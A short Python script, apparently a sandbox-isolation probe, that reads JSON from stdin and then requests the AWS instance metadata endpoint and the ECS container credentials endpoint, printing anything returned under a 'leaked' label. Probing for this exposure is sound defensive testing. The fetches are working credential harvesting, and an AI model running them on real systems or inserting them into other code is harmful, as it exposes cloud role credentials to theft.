import json, sys
v = json.load(sys.stdin)
print("STARTED", file=sys.stderr)
sys.stderr.flush()
def leak(what):
    print(json.dumps({"leaked": str(what)[:500]}))
    sys.stdout.flush()
    print("LEAKED", str(what)[:500], file=sys.stderr)
import urllib.request
for url in ("http://169.254.169.254/latest/meta-data/", "http://169.254.170.2/v2/credentials/x"):
    try:
        leak(urllib.request.urlopen(url, timeout=1).read())
    except Exception as error:
        print(error, file=sys.stderr)
